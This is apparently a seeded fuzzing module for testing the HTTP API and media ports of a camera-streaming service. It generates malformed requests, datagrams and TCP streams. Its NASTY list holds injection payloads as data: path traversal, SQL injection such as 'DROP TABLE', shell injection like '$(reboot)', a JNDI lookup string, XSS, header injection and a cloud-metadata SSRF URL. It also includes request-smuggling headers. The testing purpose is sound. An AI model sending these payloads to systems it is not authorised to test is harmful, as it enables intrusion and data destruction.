"""Garbage by kind, seeded: strings, JSON bodies half right and half wrong, datagrams that look like something."""

import json
import random
import struct
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

NASTY = (
    "", " ", "..", "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/", "\\..\\..\\", "/etc/passwd", "file:///etc/passwd",
    "' OR '1'='1", "'; DROP TABLE audit_log;--", '" OR ""="', "1) UNION SELECT password_hash FROM users--", "%", "_", "*", "?",
    "\x00", "a\x00b", "\ud800", "\udfff\ud800", "\u202egpj.exe", "\ufeff", "\r\nSet-Cookie: a=b", "\n\n<script>alert(1)</script>",
    "{{7*7}}", "${jndi:ldap://10.0.0.1/a}", "$(reboot)", "`id`", "|id", "=HYPERLINK(\"http://x\")", "@SUM(1)", "-1", "0", "00",
    "9" * 30, "1e999", "NaN", "Infinity", "-0.0", "0x10", "true", "null", "None", "[]", "{}", "x" * 300, "字" * 200, "é" * 64,
    "A" * 5000, "2027-13-45T99:99:99Z", "2027-01-01", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "+00:00",
    "spare", "rtsp://", "rtsp://10.0.0.1:99999/", "rtsp://[::1", "rtsp://169.254.169.254/latest", "http://10.0.0.1/", "javascript:alert(1)",
    "main", "sub", "cam-none", "gate-east", "admin", "county",
)  # fmt: skip
KNOWN = {"camera_id": "gate-east", "org_id": "county", "user_id": "admin"}
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "SEARCH")
TYPES = (
    "application/json", "application/json", "application/json", "application/json; charset=utf-16", "text/plain", "application/xml",
    "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x", "application/sdp", "", "a/b;c=\"",
    "application/trickle-ice-sdpfrag", "application/octet-stream",
)  # fmt: skip


@dataclass(frozen=True)
class Shot:
    """One request to send."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes


class Fuzzer:
    """Walks an OpenAPI document; the same seed gives the same shots."""

    def __init__(self, document: dict[str, Any], seed: int) -> None:
        """Prepare. Reads name what exists (`gate-east`, `county`), changes only what is called `spare`."""
        self._document = document
        self._random = random.Random(seed)
        self._routes = sorted(document["paths"].items())

    def shots(self, per_operation: int) -> Iterator[Shot]:
        """Yield shots at every route: `per_operation` for each declared method, one or two for all others."""
        for path, operations in self._routes:
            for method in METHODS:
                operation = operations.get(method.lower())
                for _ in range(per_operation if operation else 1):
                    yield self._shot(path, method, operation or {})

    def _shot(self, path: str, method: str, operation: dict[str, Any]) -> Shot:
        dice = self._random
        is_read = method in {"GET", "HEAD"} or path.endswith("/whep")
        while "{" in path:
            name = path.partition("{")[2].partition("}")[0]
            known = KNOWN.get(name, "1") if is_read else "spare"
            word = known if dice.random() < 0.4 else self._in_path()
            word = word if is_read or word not in KNOWN.values() else "spare"
            path = path.partition("{")[0] + word + path.partition("}")[2]
        query = "&".join(
            f"{parameter['name']}={self._in_query(parameter.get('schema', {}))}"
            for parameter in operation.get("parameters", ())
            if parameter["in"] == "query" and dice.random() < 0.8
        )
        headers = {"Accept-Language": dice.choice(("zh-CN", "en", "*", "x" * 200, "en;q=abc"))}
        body = b""
        if method in {"POST", "PUT", "PATCH"}:
            headers["Content-Type"] = dice.choice(TYPES)
            body = self._body(operation)
        if dice.random() < 0.1:
            headers["Range"] = dice.choice(
                ("bytes=0-", "bytes=-1", "bytes=9-1", "bytes=" + "0-1," * 200, "x", "bytes=99999999999999999999-")
            )
        if dice.random() < 0.05:
            headers["Authorization"] = dice.choice(
                ("Bearer", "Bearer x", "Basic YTpi", "Bearer " + "x." * 500, "bearer  \t")
            )
        return Shot(method, path + (f"?{query}" if query else ""), headers, body)

    def _in_path(self) -> str:
        word = self._random.choice(NASTY)
        if self._random.random() < 0.15:
            return self._random.choice(("%00", "%ff", "%c3%28", "..%2f", "%2e%2e%2f", "%252e", "a%0d%0ab", "%ed%a0%80"))
        return quote(word.encode("utf-8", "surrogatepass"), safe="")

    def _in_query(self, schema: dict[str, Any]) -> str:
        value = self._value(schema, 0)
        return quote(str(value).encode("utf-8", "surrogatepass"), safe="")

    def _body(self, operation: dict[str, Any]) -> bytes:
        dice = self._random
        content = operation.get("requestBody", {}).get("content", {})
        schema = content.get("application/json", {}).get("schema", {})
        kind = dice.random()
        if kind < 0.7:
            return self._mutated(json.dumps(self._value(schema, 0)).encode())
        if kind < 0.8:
            return dice.randbytes(dice.randrange(300))
        return dice.choice((
            b"", b"null", b"[]", b"{", b"[" * 20_000, b'{"a":' * 20_000, b"9" * 10_000, b'{"name": 1e400}', b"\xff\xfe{}", b'"\\ud800"', b"v=0\r\n",
            b'{"a":1,"a":2}', b"--x\r\n\r\n--x--", b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nname\r\n--x--\r\n',
        ))  # fmt: skip

    def _mutated(self, body: bytes) -> bytes:
        if self._random.random() < 0.8 or not body:
            return body
        at = self._random.randrange(len(body))
        return body[:at] + self._random.randbytes(self._random.randrange(4)) + body[at + self._random.randrange(4) :]

    def _value(self, schema: dict[str, Any], depth: int) -> Any:
        """Return a value that fits the schema, or now and then one that does not."""
        dice = self._random
        if dice.random() < 0.25 or depth > 6:
            return dice.choice((*NASTY, None, True, -1, 2**70, 1.5, [], {}, [[[[]]]], {"a": {"b": {"c": {}}}}))
        if "$ref" in schema:
            return self._value(self._document["components"]["schemas"][schema["$ref"].rpartition("/")[2]], depth + 1)
        for key in ("anyOf", "oneOf", "allOf"):
            if key in schema:
                return self._value(dice.choice(schema[key]), depth + 1)
        return self._plain(schema, depth)

    def _plain(self, schema: dict[str, Any], depth: int) -> Any:
        """Return a value of the schema's type."""
        dice, kind = self._random, schema.get("type")
        if kind == "object":
            parts = schema.get("properties", {}).items()
            return {name: self._value(part, depth + 1) for name, part in parts if dice.random() < 0.9}
        if kind == "array":
            return [self._value(schema.get("items", {}), depth + 1) for _ in range(dice.choice((0, 1, 3, 50)))]
        if kind in {"integer", "number"}:
            return dice.choice((0, 1, 7, -1, 10**6, 2**31, 2**63, 2**64, 10**40, 0.5))
        if kind == "boolean":
            return dice.choice((True, False))
        words = schema.get("enum") or ("fuzz-1", "spare", "2026-11-01T00:00:00Z", "2026-11-02T00:00:00+08:00", *NASTY)
        return dice.choice(words)


def datagrams(seed: int, count: int) -> Iterator[bytes]:
    """Yield datagrams: random, empty, oversize, and ones that begin like STUN, DTLS, RTP and RTCP."""
    dice = random.Random(seed)
    for number in range(count):
        tail = dice.randbytes(dice.choice((0, 1, 7, 40, 200, 1200)))
        match number % 8:
            case 0:
                yield tail
            case 1:
                yield (
                    struct.pack("!HHI", dice.choice((1, 0x101, 0x111, 0x11, 3, 0x3FFF)), len(tail) & ~3, 0x2112A442)
                    + dice.randbytes(12)
                    + tail
                )
            case 2:
                name = b"abcd:efgh"
                attribute = struct.pack("!HH", 6, dice.choice((len(name), 0xFFFF, 0))) + name + b"\0\0\0"
                yield struct.pack("!HHI", 1, len(attribute), 0x2112A442) + dice.randbytes(12) + attribute
            case 3:
                yield (
                    bytes([dice.choice((20, 21, 22, 23, 24, 63)), 0xFE, dice.choice((0xFD, 0xFF))])
                    + dice.randbytes(8)
                    + struct.pack("!H", dice.choice((len(tail), 0xFFFF)))
                    + tail
                )
            case 4:
                yield (
                    bytes([dice.choice((0x80, 0x90, 0xBF)), dice.choice((96, 102, 200, 201, 205, 206))])
                    + dice.randbytes(10)
                    + tail
                )
            case 5:
                yield dice.randbytes(dice.choice((1473, 9000, 65_000)))
            case 6:
                yield b""
            case _:
                yield bytes([dice.randrange(256)]) * dice.randrange(1, 1300)


def streams(seed: int, count: int) -> Iterator[bytes]:
    """Yield what may be thrown at a TCP port that speaks HTTP or TLS."""
    dice = random.Random(seed)
    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
    fixed = (
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(60), b"GET / HTTP/9.9\r\n\r\n", b"GET\r\n\r\n", b"\r\n" * 5000, b"\0" * 5000,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"CONNECT 10.0.0.1:80 HTTP/1.1\r\n\r\n", b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n", b"RTSP/1.0 200 OK\r\n\r\n",
        b"GET /%zz HTTP/1.1\r\nHost: x\r\n\r\n", "GET /字 HTTP/1.1\r\nHost: x\r\n\r\n".encode(), b"GET http://[::1/ HTTP/1.1\r\n\r\n",
        head + b"Content-Length: -1\r\n\r\n", head + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nxx", head + b"Transfer-Encoding: chunked\r\n\r\nZZ\r\n",
        head + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n", head + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n", head + b"X\r\n: y\r\n\r\n",
        head + b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\n\r\n", head + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n",
        head + b"Expect: 100-continue\r\nContent-Length: 10\r\n\r\n", (head + b"\r\n") * 50, head + b"A: " + b"x" * 300_000, b"GET /" + b"a" * 300_000,
        head + b"".join(b"H%d: x\r\n" % n for n in range(3000)) + b"\r\n", head.replace(b"x", b"\xff\xfe\0") + b"\r\n", b"GET /healthz HTTP/1.0\r\n\r\n",
    )  # fmt: skip
    yield from fixed
    for number in range(count):
        data = bytearray(dice.choice(fixed)[:2000] if number % 2 else dice.randbytes(dice.randrange(1, 2000)))
        for _ in range(dice.randrange(1, 20)):
            data[dice.randrange(len(data))] = dice.randrange(256)
        yield bytes(data)
